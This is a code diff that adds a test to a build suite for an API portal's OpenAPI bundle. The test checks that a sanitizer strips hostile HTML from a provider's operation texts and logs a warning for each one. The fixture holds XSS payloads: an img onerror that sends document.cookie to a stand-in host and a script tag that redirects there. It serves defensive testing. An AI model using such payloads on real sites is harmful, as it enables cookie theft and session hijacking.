@@ -20,6 +20,8 @@ const provider = fakeProviderForSuite();
 
 interface Built {
   log: string;
+  /** What the bundle said on stderr (a text the sanitizer changed). */
+  warnings: string;
   // eslint-disable-next-line @typescript-eslint/no-explicit-any
   bundled: any;
 }
@@ -40,7 +42,7 @@ function build(apiHost: string | undefined): Promise<Built> {
       (error, stdout, stderr) => {
         if (error) return reject(new Error(`${error.message}\n${stderr}`));
         const bundled = JSON.parse(fs.readFileSync(path.join(root, 'generated/openapi/customer-api.json'), 'utf8'));
-        resolve({ log: stdout.trim(), bundled });
+        resolve({ log: stdout.trim(), warnings: stderr.trim(), bundled });
       },
     );
   });
@@ -90,6 +92,24 @@ describe('the description /api is built from', () => {
     expect(built.bundled.servers.map((server: { url: string }) => server.url)).toContain(
       `${provider.host}/api/v1/customer`,
     );
+  });
+
+  it("is the provider's with its texts' hostile HTML dropped, each such text named in the log", async () => {
+    const hostile = providerContract();
+    const operation = hostile.paths['/provider_only'].get;
+    operation.description = 'Lists things. <img src="x" onerror="location=\'//x.example/?\'+document.cookie">';
+    operation.summary = 'Only here <script>$RX=0;location="//x.example"</script>';
+    provider.answer = (res) => res.writeHead(200, { 'content-type': 'application/json' }).end(JSON.stringify(hostile));
+    const built = await build(provider.host);
+    expect(built.bundled.info.title).toBe('Provider Contract');
+    const bundled = built.bundled.paths['/provider_only'].get;
+    expect([bundled.description, bundled.summary]).toEqual(['Lists things. ![](x)', 'Only here']);
+    expect(built.warnings.split('\n')).toEqual([
+      "API reference: the description's /paths/~1provider_only/get/summary holds HTML the portal does not allow " +
+        '(script); the pages show it without that. Fix the text in the OpenAPI description.',
+      "API reference: the description's /paths/~1provider_only/get/description holds HTML the portal does not allow " +
+        '(img[onerror]); the pages show it without that. Fix the text in the OpenAPI description.',
+    ]);
   });
 
   it('is the vendored copy, with the reason logged, when the provider answers an error', async () => {
